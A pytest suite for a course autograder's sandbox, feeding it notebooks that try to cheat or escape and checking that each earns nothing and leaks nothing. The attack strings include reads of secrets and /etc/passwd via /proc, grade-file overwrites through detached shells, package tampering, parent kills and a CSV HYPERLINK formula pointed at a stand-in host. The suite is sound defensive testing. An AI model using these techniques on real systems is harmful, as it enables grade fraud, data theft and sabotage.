"""Submissions that try to cheat, graded in one class beside an honest one (the solution notebook).

Each attacker hands in the blank student notebook with one TODO cell replaced by the attack, so an attacker's
fair grade is 0. Every test asserts: no undue points, the honest grade intact, no file outside the sandbox read,
written or created, and nothing that changes after grading. Needs bubblewrap (CI installs it).
"""

import hashlib
import json
import os
import shutil
import socket
import subprocess
import time
from pathlib import Path

import pandas as pd
import pytest

from lab7_helpers.checks import TODOS
from lab7_helpers.grading import sandbox
from lab7_helpers.grading.grade import Limits, WorkerFailed, decode_reply, grade, load_rubric, run_checks

pytestmark = pytest.mark.skipif(shutil.which("bwrap") is None, reason="bubblewrap (bwrap) is not installed")

ROOT = Path(__file__).resolve().parents[1]
PACKAGE = ROOT / "lab7_helpers"
SOLUTION = json.loads((ROOT / "instructor" / "lab7_solution.ipynb").read_text())
BLANK = json.loads((ROOT / "lab7.ipynb").read_text())
FULL_MARKS = sum(todo.points for todo in TODOS.values())
SECRET = "grader-secret-7f3a"  # in a file outside the sandbox and in the grader's environment
ALICE_WORK = "alice-own-work-5c1e"  # in the honest notebook: another student must not be able to copy it
MARKER = "lab7-attack-marker"  # a detached process would carry it on its command line

# {secret}, {grades}, {sibling}, {checks_py}, {port} are filled in by the fixture.
ATTACKS = {
    "patch_checks": """
import lab7_helpers, lab7_helpers.checks as c
full = lambda *a, **k: c.CheckResult("x", True, 100.0, 100.0, "")
for name in dir(c):
    if name.startswith("check_"):
        setattr(c, name, full)
        setattr(lab7_helpers, name, full)
""",
    "forged_lines": """
import sys, os, json
frame, seen = sys._getframe(), []
while frame:  # walk up to the worker's locals, looking for anything that could sign a result
    seen += list(frame.f_locals)
    frame = frame.f_back
forged = [{"check": c, "passed": True, "points": p * 100, "max_points": p, "hint": ""}
          for c, p in [("kl-loss", 3), ("sequence-logprobs", 2), ("dpo-loss", 3), ("dpo-dataset", 2)]]
lines = "".join(json.dumps(x) + "\\n" for x in [{"todos": {}}, *forged, {"value": 1100}]).encode()
for fd in range(1, 20):
    try:
        os.write(fd, lines)
    except OSError:
        pass
os._exit(0)
""",
    "dir_fd_read": """
import os
d = os.open("/proc/self", os.O_RDONLY)
text = open("root{secret}", opener=lambda p, f: os.open(p, f, dir_fd=d)).read()
text += open("root{sibling}", opener=lambda p, f: os.open(p, f, dir_fd=d)).read()
raise RuntimeError(text)
""",
    "proc_root_path": """
text = open("/proc/self/root{secret}").read() + open("/proc/self/root/etc/passwd").read()
raise RuntimeError(text)
""",
    "append_to_package": """
import os
fd = os.open({checks_py!r}, os.O_WRONLY | os.O_APPEND)
os.write(fd, b"\\ncheck_kl_loss = lambda *a, **k: None\\n")
""",
    "torch_from_file": """
t = torch.from_file({secret!r}, size=18, dtype=torch.uint8)
raise RuntimeError(bytes(t.tolist()).decode())
""",
    "grader_environ": """
import os
d = os.open("/proc", os.O_RDONLY)
text = ""
for pid in ("1", str(os.getppid())):
    for name in ("environ", "cmdline"):
        try:
            text += open(pid + "/" + name, opener=lambda p, f: os.open(p, f, dir_fd=d)).read()
        except OSError as err:
            text += str(err)
raise RuntimeError(text)
""",
    "fork_exec_detached": """
import _posixsubprocess, os
script = "while true; do echo 0 > {grades}; sleep 0.2; done"
args = [b"/bin/sh", b"-c", script.encode(), b"{marker}"]
r, w = os.pipe()
try:  # Python 3.11-3.12 signature; a detached session that would outlive the grader
    _posixsubprocess.fork_exec(args, [b"/bin/sh"], True, (), None, None, -1, -1, -1, -1, -1, -1, r, w,
                               True, True, -1, None, None, None, -1, None, True)
except TypeError:
    _posixsubprocess.fork_exec(args, [b"/bin/sh"], True, (), None, None, -1, -1, -1, -1, -1, -1, r, w,
                               True, True, -1, None, None, None, -1, None)
""",
    "child_keeps_stdout": """
import _posixsubprocess, os
r, w = os.pipe()
try:  # the child inherits fd 1 and sleeps: the grader must not wait for the pipe to close
    _posixsubprocess.fork_exec([b"/bin/sleep", b"300", b"{marker}"], [b"/bin/sleep"], False, (), None, None,
                               -1, -1, -1, 1, -1, -1, r, w, True, False, -1, None, None, None, -1, None, True)
except TypeError:
    _posixsubprocess.fork_exec([b"/bin/sleep", b"300", b"{marker}"], [b"/bin/sleep"], False, (), None, None,
                               -1, -1, -1, 1, -1, -1, r, w, True, False, -1, None, None, None, -1, None)
""",
    "os_system": """
import os
os.system("echo 0 > {grades}; touch /tmp/{marker}")
""",
    "udp_socket": """
import socket
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"{marker}", ("127.0.0.1", {port}))
""",
    "output_flood": """
import os
for fd in range(1, 20):
    try:
        os.write(fd, b"y" * 20_000_000)
    except OSError:
        pass
""",
    "signals": """
import os, signal
os.kill(os.getppid(), signal.SIGKILL)
""",
    "ignores_alarm": """
import signal
signal.signal(signal.SIGALRM, signal.SIG_IGN)
while True:
    pass
""",
}


def notebook(base: dict, todo: str | None = None, code: str = "") -> dict:
    copy = json.loads(json.dumps(base))
    for cell in copy["cells"]:
        if todo and cell["metadata"].get("todo") == todo:
            cell["source"] = code
    return copy


def package_digest() -> str:
    digest = hashlib.sha256()
    for path in sorted(PACKAGE.rglob("*.py")):
        digest.update(path.read_bytes())
    return digest.hexdigest()


def marked_processes() -> list[str]:
    found = []
    for entry in Path("/proc").iterdir():
        try:
            cmdline = (entry / "cmdline").read_bytes()
        except OSError:
            continue
        if MARKER.encode() in cmdline and entry.name != str(os.getpid()):
            found.append(entry.name)
    return found


@pytest.fixture(scope="module")
def attacked(tmp_path_factory):
    folder = tmp_path_factory.mktemp("class")
    outside = tmp_path_factory.mktemp("outside")
    secret_file = outside / "secret.txt"
    secret_file.write_text(SECRET)
    listener = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    listener.bind(("127.0.0.1", 0))
    listener.setblocking(False)
    out = folder / "out"
    fill = {"secret": str(secret_file), "grades": str(out / "grades.csv"), "sibling": str(folder / "alice.ipynb"),
            "checks_py": str(PACKAGE / "checks.py"), "port": listener.getsockname()[1], "marker": MARKER}
    honest = notebook(SOLUTION)
    cell = next(c for c in honest["cells"] if c["metadata"].get("todo") == "kl-loss")
    cell["source"] = "".join(cell["source"]) + f"\n# {ALICE_WORK}\n"
    (folder / "alice.ipynb").write_text(json.dumps(honest))
    for name, code in ATTACKS.items():
        for key, value in fill.items():
            code = code.replace("{" + key + "}", str(value)).replace("{" + key + "!r}", repr(str(value)))
        (folder / f"{name}.ipynb").write_text(json.dumps(notebook(BLANK, "kl-loss", code)))
    odd = notebook(BLANK)
    next(c for c in odd["cells"] if c["metadata"].get("todo") == "kl-loss")["metadata"]["todo"] = ["kl-loss"]
    (folder / "odd_todo_list.ipynb").write_text(json.dumps(odd))
    (folder / "odd_answers.json").write_text(json.dumps({"format": "lab7-answers", "todos": "abc", "answers": {}}))
    before = package_digest()
    os.environ["LAB7_TEST_SECRET"] = SECRET
    try:
        grades = grade([str(folder)], out, limits=Limits(wall_seconds=60, todo_seconds=2), progress=False)
    finally:
        del os.environ["LAB7_TEST_SECRET"]
    written = (out / "grades.csv").read_bytes()
    time.sleep(1.0)  # a process that outlived grading would act now
    try:
        datagram = listener.recv(100)
    except BlockingIOError:
        datagram = b""
    listener.close()
    return {"folder": folder, "grades": grades, "written": written, "before": before, "datagram": datagram,
            "outside": outside}


def test_honest_student_keeps_full_marks(attacked):
    alice = attacked["grades"].loc["alice"]
    # full TODO marks; the honest copy types no Checkpoint answer, which its status says
    assert alice["status"] == "answers missing" and alice["total"] == FULL_MARKS, alice


@pytest.mark.parametrize("attack", ATTACKS)
def test_attack_earns_nothing(attacked, attack):
    row = attacked["grades"].loc[attack]
    assert row["total"] == 0, row
    assert all(row[f"{cid} points"] == 0 for cid in TODOS), row


def test_nothing_outside_is_read_written_or_left_running(attacked):
    grades, folder = attacked["grades"], attacked["folder"]
    assert package_digest() == attacked["before"]  # the package was not rewritten
    assert (folder / "out" / "grades.csv").read_bytes() == attacked["written"]  # nothing changed after grading
    assert attacked["datagram"] == b""
    assert not Path(f"/tmp/{MARKER}").exists()
    assert marked_processes() == []
    assert sorted(p.name for p in attacked["outside"].iterdir()) == ["secret.txt"]
    published = "".join((folder / "out" / name).read_text() for name in ("grades.csv", "answers.csv",
                                                                         "grading.html"))
    for leak in (SECRET, "root:x:0:0", ALICE_WORK, "LAB7_TEST_SECRET"):
        assert leak not in published, leak
    assert set(grades.index) == {"alice", *ATTACKS, "odd_todo_list", "odd"}  # odd_answers.json is odd's


def test_a_hang_or_a_flood_costs_one_row_with_a_reason(attacked):
    grades = attacked["grades"]
    assert grades.loc["ignores_alarm", "status"] == "incomplete"
    # 4 TODO cells x 2 s (+ 2 s), not the 60 s wall limit
    assert "longer than 10 s" in grades.loc["ignores_alarm", "problem"]
    # a reply of more than 8 MB, or (when the TODO's 2 s ran out mid-write) junk before the reply
    assert "its output could not be read" in grades.loc["output_flood", "problem"]
    for attack in ("child_keeps_stdout", "fork_exec_detached"):  # no process was created, so none to wait for
        assert "endless loop" not in grades.loc[attack, "problem"], grades.loc[attack]


def test_odd_files_cost_one_row_each(attacked):
    grades = attacked["grades"]
    for student in ("odd_todo_list", "odd"):
        row = grades.loc[student]
        assert row["status"] != "graded" and row["total"] == 0, row
        assert row["problem"] and "\n" not in row["problem"] and "Traceback" not in row["problem"], row
    rows = pd.read_csv(attacked["folder"] / "out" / "grades.csv", index_col="student")
    assert len(rows) == len(ATTACKS) + 3


def test_the_sandbox_holds_without_the_audit_hook(tmp_path):
    """The bubblewrap layer alone (no worker, no audit hook): what the kernel lets the code reach."""
    secret = tmp_path / "secret.txt"
    secret.write_text(SECRET)
    code = f"""
import os, socket
def attempt(what, action):
    try:
        action()
        print(what, "ALLOWED")
    except OSError as err:
        print(what, "refused", type(err).__name__)
attempt("read", lambda: open({str(secret)!r}).read())
attempt("passwd", lambda: open("/etc/passwd").read())
attempt("write-package", lambda: open({str(PACKAGE / 'checks.py')!r}, "a"))
attempt("write-root", lambda: open("/usr/lab7-x", "w"))
attempt("fork", os.fork)
attempt("udp", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("8.8.8.8", 53)))
attempt("home", lambda: open("notes.txt", "w").write("mine"))
print("pids", sorted(p for p in os.listdir("/proc") if p.isdigit()))
print("environ", open("/proc/1/environ").read())
"""
    seccomp = sandbox.seccomp_file()
    result = subprocess.run(sandbox.command(["-c", code], seccomp.fileno()), env=sandbox.environment(),
                            pass_fds=[seccomp.fileno()], capture_output=True, text=True, timeout=60)
    assert result.returncode == 0, result.stderr
    lines = dict(line.split(" ", 1) for line in result.stdout.splitlines())
    for what in ("read", "passwd", "write-package", "write-root", "fork", "udp"):
        assert lines[what].startswith("refused"), (what, lines[what])
    assert lines["home"] == "ALLOWED"
    assert len(eval(lines["pids"])) <= 3  # its own PID namespace: bwrap's init, python
    assert SECRET not in result.stdout


def test_points_are_capped_by_the_rubric(monkeypatch):
    import dataclasses

    from lab7_helpers.checks import CheckResult

    generous = lambda fn, points, seed: CheckResult("x", True, points * 100, points * 100, "")  # noqa: E731
    monkeypatch.setitem(TODOS, "sequence-logprobs", dataclasses.replace(TODOS["sequence-logprobs"], check=generous))
    code = "def my_sequence_logprobs(logits, labels):\n    return logits.sum(-1).sum(-1)\n"
    results, problem = run_checks({"dpo-by-hand": code}, load_rubric(), Limits(wall_seconds=60, todo_seconds=5))
    assert problem == "" and results["sequence-logprobs"]["points"] == 2


def test_malformed_replies_are_refused():
    for reply in ({"nothing": 1}, {"error": "x"}, {"value": {"tensor": [1, 2], "dtype": "torch.float32",
                                                            "shape": [3], "requires_grad": False}},
                  {"value": {"bogus": 1}}, {"value": {"tensor": ["1"], "dtype": "torch.float32", "shape": [1],
                                                      "requires_grad": False}}):
        with pytest.raises(WorkerFailed):
            decode_reply(reply)


# Round 2: hand-ins that tried to stop the class, take another student's row, or score without the work. Graded as
# one class beside honest students, whose rows must come out as if the attackers were not there.
ANSWERS = {key: f"my own thoughts on {key}" for key in load_rubric()["checkpoints"]}


def answered(base: dict, name: str = "", answers: dict | None = None, **todos) -> dict:
    """``base`` with ``STUDENT_NAME`` typed in, answers in the answer cells, and TODO cells replaced."""
    copy = notebook(base)
    for cell in copy["cells"]:
        meta = cell["metadata"]
        if meta.get("checkpoint"):
            cell["source"] = "*Your answer:* " + (answers or ANSWERS)[meta["checkpoint"]]
        elif meta.get("todo") in todos:
            cell["source"] = todos[meta["todo"]]
        elif "".join(cell["source"]).startswith('STUDENT_NAME = ""'):
            quote = "'" if '"' in name else '"'  # typed as a student types it: the characters, not escapes
            cell["source"] = f"STUDENT_NAME = {quote}{name}{quote}\n"
    return copy


def answers_file(**fields) -> dict:
    return {"format": "lab7-answers", **fields}


LOOKUP_TABLE = """
import torch
from lab7_helpers import checks
from lab7_helpers.losses import dpo_loss, kl_regularized_loss, sequence_logprobs, token_kl
# what the notebook's own self-checks (seed 0) ask, answered from a table: no formula of the student's own
policy, ref, labels = checks._kl_inputs(2)
KL = token_kl(policy, ref).detach()
p1, r1, l1 = checks._kl_inputs(0)
LOSS = [v.detach() for v in kl_regularized_loss(p1, r1, l1, 0.5)]
p2, _, l2 = checks._kl_inputs(1)
SEQ = sequence_logprobs(p2, l2)
g = torch.Generator().manual_seed(3)
pc, pr, rc, rr = -5 - 25 * torch.rand(4, 3, generator=g)
beta = round(0.1 + 0.4 * float(torch.rand((), generator=g)), 2)
DPO = [v.detach() for v in dpo_loss(pc, pr, rc, rr, beta)]
def my_token_kl(p, r):
    return KL.clone().requires_grad_(True)
def my_kl_regularized_loss(p, r, labels, beta):
    return tuple(v.clone().requires_grad_(True) for v in LOSS)
def my_sequence_logprobs(logits, labels):
    return SEQ.clone()
def my_dpo_loss(pc, pr, rc, rr, beta):
    return DPO[0].clone().requires_grad_(True), DPO[1], DPO[2]
"""

HONEST_BUT_ODD = '''
import functools
my_token_kl = lambda p, r: (torch.log_softmax(p, -1).exp() * (torch.log_softmax(p, -1)
                                                               - torch.log_softmax(r, -1))).sum(-1)
def _loss(policy_logits, ref_logits, labels, beta, kl_fn):
    token_logps, mask = lab.token_logprobs(policy_logits, labels)
    kl = kl_fn(policy_logits[:, :-1], ref_logits[:, :-1])[mask].mean()
    nll = -token_logps[mask].mean()
    return nll + beta * kl, nll, kl
my_kl_regularized_loss = functools.partial(_loss, kl_fn=my_token_kl)
'''

SHM_FILLER = """
import os
for folder in ("/dev/shm", "/root", "/content", "/tmp", "/", "/opt"):
    try:
        with open(os.path.join(folder, "fill"), "wb") as f:
            for _ in range(100):
                f.write(b"x" * 2**20)
    except OSError:
        pass
t = torch.from_file("/dev/shm/big", shared=True, size=2**30, dtype=torch.uint8)
t.fill_(1)
"""

WRAPPER = """
def my_sequence_logprobs(logits, labels):
    return lab.sequence_logprobs(logits, labels)


def my_dpo_loss(policy_chosen, policy_rejected, ref_chosen, ref_rejected, beta):
    return lab.dpo_loss(policy_chosen, policy_rejected, ref_chosen, ref_rejected, beta)
"""

SANDBOX_TELLS = """
import os, socket
tells = [socket.gethostname(), os.environ.get("HOME", ""), os.getcwd(), *os.environ.values()]
raise RuntimeError("TELLS " + repr(tells))
"""

MILLION_PHRASES = """
import sys
sys.modules["__main__"].MAX_ITEMS = 10**9  # the worker's own cap, out of the way
REFUSAL_PHRASES = [f"p{i}" for i in range(300_000)]
"""


@pytest.fixture(scope="module")
def round_two(tmp_path_factory):
    folder = tmp_path_factory.mktemp("class2")
    honest = {"alice": answered(SOLUTION), "bob": answered(SOLUTION, "Bob"),
              "alex_smith": answered(SOLUTION, "Alex"), "alex_jones": answered(SOLUTION, "Alex"),
              "odd_but_honest": answered(SOLUTION, todos={"kl-loss": HONEST_BUT_ODD})}
    for name, nb in honest.items():
        (folder / f"{name}.ipynb").write_text(json.dumps(nb))
    long_answer = "=1+1 " + "a long thought. " * 200_000  # 3.2 MB, and a formula at its start
    huge_markdown = answered(SOLUTION, answers={**ANSWERS, "ties": long_answer})
    huge_markdown["cells"].insert(3, {"cell_type": "markdown", "metadata": {}, "source": "words " * 100_000})
    attacks = {
        "mallory.ipynb": answered(BLANK, "alice"),  # handed in later, claiming alice's name
        "oscar.ipynb": answered(BLANK, ""),
        "oscar_answers.json": answers_file(student="alice", answers=ANSWERS),
        "unplaced_not_text_answers.json": answers_file(student="x", unplaced=[1]),
        "notes_not_lists_answers.json": answers_file(student="y", todo_notes={"kl-loss": 5}),
        "lookup.ipynb": answered(BLANK, **{"kl-loss": LOOKUP_TABLE}),
        "shm.ipynb": answered(BLANK, **{"kl-loss": SHM_FILLER}),
        "tells.ipynb": answered(BLANK, **{"kl-loss": SANDBOX_TELLS}),
        "phrases.ipynb": answered(BLANK, **{"refusal-phrases": MILLION_PHRASES}),
        "formula.ipynb": answered(SOLUTION, '=HYPERLINK("http://x.example/?"&A1,"click")',
                                  answers={**ANSWERS, "ties": "=1+1"}),
        "@sum.ipynb": answered(BLANK),
        "\u0430lice.ipynb": answered(BLANK, "\u0430lice"),  # Cyrillic a
        "rlo.ipynb": answered(BLANK, "\u202eecila"),  # a right-to-left override that shows "alice"
        "huge_markdown.ipynb": huge_markdown,
        "wrapper.ipynb": answered(BLANK, **{"dpo-by-hand": WRAPPER}),
    }
    for name, content in attacks.items():
        (folder / name).write_text(json.dumps(content))
    (folder / "oscar_answers.json").touch()
    os.utime(folder / "oscar.ipynb", (1_600_000_000,) * 2)  # older than the answers file beside it
    os.utime(folder / "alice.ipynb", (1_600_000_000,) * 2)  # older than mallory's claim
    out = folder / "out"
    grades = grade([str(folder)], out, limits=Limits(wall_seconds=60, todo_seconds=5), progress=False)
    return {"grades": grades, "out": out, "long_answer": long_answer}


def test_honest_rows_are_unchanged_by_the_attackers(round_two):
    grades = round_two["grades"]
    for student in ("alice", "bob", "alex_smith", "alex_jones"):
        assert grades.loc[student, "status"] == "graded" and grades.loc[student, "total"] == FULL_MARKS, student
    assert grades.loc["alice", "file"].endswith("alice.ipynb")


def test_a_malformed_answers_file_costs_its_own_row_only(round_two):
    grades = round_two["grades"]
    for student, field_name in (("unplaced_not_text", "unplaced"), ("notes_not_lists", "todo_notes")):
        row = grades.loc[student]
        assert row["status"] == "not graded" and row["total"] == 0, row
        assert f"its field '{field_name}' is not" in row["problem"], row
    written = pd.read_csv(round_two["out"] / "grades.csv", index_col="student")
    assert len(written) == len(grades)  # every file was written, for everyone


def test_a_typed_name_never_takes_another_students_row(round_two):
    grades = round_two["grades"]
    assert grades.loc["mallory", "total"] == 0 and grades.loc["mallory", "names typed in it"] == "alice"
    assert "identity: the name typed in it, 'alice', is that of another hand-in (alice.ipynb)" in \
        grades.loc["mallory", "problem"]
    assert "mallory.ipynb (another hand-in) has this student's name typed in it" in grades.loc["alice", "problem"]
    oscar = grades.loc["oscar"]  # his notebook is graded, his answers file (naming alice) set aside and flagged
    assert oscar["file"].endswith("oscar.ipynb") and oscar["total"] == 0 and "oscar_answers.json" in oscar["set aside"]
    assert "'alice', is that of another hand-in" in oscar["problem"]


def test_two_students_who_typed_one_name_keep_two_rows_and_are_told(round_two):
    grades = round_two["grades"]
    assert "the name typed in it is also typed in alex_jones.ipynb" in grades.loc["alex_smith", "problem"]
    assert "also typed in alex_smith.ipynb" in grades.loc["alex_jones", "problem"]


def test_look_alike_and_invisible_letters_are_cleaned_and_flagged(round_two):
    grades = round_two["grades"]
    assert "rlo" in grades.index and grades.loc["rlo", "names typed in it"] == "ecila"  # the override is gone
    cyrillic = "\u0430lice"
    assert grades.loc[cyrillic, "total"] == 0
    assert f"{cyrillic!r} looks like 'alice'" in grades.loc[cyrillic, "problem"]
    assert f"'alice' looks like {cyrillic!r}" in grades.loc["alice", "problem"]


def test_a_lookup_table_of_the_notebooks_check_inputs_scores_nothing(round_two):
    row = round_two["grades"].loc["lookup"]
    for check in ("token-kl", "kl-loss", "sequence-logprobs", "dpo-loss"):
        assert row[f"{check} points"] == 0, (check, row[f"{check} hint"])


def test_a_todo_that_calls_the_labs_own_answer_is_pointed_out(round_two):
    row = round_two["grades"].loc["wrapper"]  # the checks cannot tell it from honest work: the instructor reads it
    assert row["sequence-logprobs points"] == 2 and row["dpo-loss points"] == 3
    assert "the dpo-by-hand TODO calls the lab's own dpo_loss, sequence_logprobs: read that cell" in row["problem"]
    assert "calls the lab's own" not in round_two["grades"].loc["alice", "problem"]


def test_a_lambda_or_partial_is_graded_as_the_function_it_is(round_two):
    row = round_two["grades"].loc["odd_but_honest"]
    assert row["token-kl points"] == 2 and row["kl-loss points"] == 1 and row["total"] == FULL_MARKS, row


def test_writable_places_are_small_and_the_sandbox_looks_like_colab(round_two):
    grades = round_two["grades"]
    assert grades.loc["shm", "total"] == 0 and grades.loc["bob", "total"] == FULL_MARKS
    tells = grades.loc["tells", "token-kl hint"]
    assert "TELLS" in tells and "/root" in tells and "/content" in tells
    for word in ("sandbox", "student", "grade", "lab7_grade"):
        assert word not in tells.replace("lab7_helpers", ""), tells


def test_an_oversized_value_fails_its_check_not_the_grader(round_two):
    row = round_two["grades"].loc["phrases"]
    assert row["refusal-phrases points"] == 0 and "more than 100000 items" in row["refusal-phrases hint"], row


def test_csv_cells_that_would_run_as_formulas_are_escaped(round_two):
    grades = pd.read_csv(round_two["out"] / "grades.csv", index_col="student", keep_default_na=False)
    answers = pd.read_csv(round_two["out"] / "answers.csv", index_col="student", keep_default_na=False)
    assert grades.loc["formula", "names typed in it"].startswith("'=HYPERLINK(")
    assert answers.loc["formula", "ties"] == "'=1+1" and "'@sum" in grades.index
    assert grades.loc["formula", "total"] == FULL_MARKS


def test_a_huge_answer_is_kept_whole_in_answers_csv_and_cut_on_the_page(round_two):
    answers = pd.read_csv(round_two["out"] / "answers.csv", index_col="student", keep_default_na=False)
    long_answer = round_two["long_answer"]
    assert answers.loc["huge_markdown", "ties"] == "'" + long_answer.strip()
    assert answers.loc["huge_markdown", "unplaced"].startswith("cell 4: words words")
    page = (round_two["out"] / "grading.html").read_text()
    assert f"cut here: {len(long_answer.strip()):,} characters in all" in page
    assert len(page) < 2_000_000
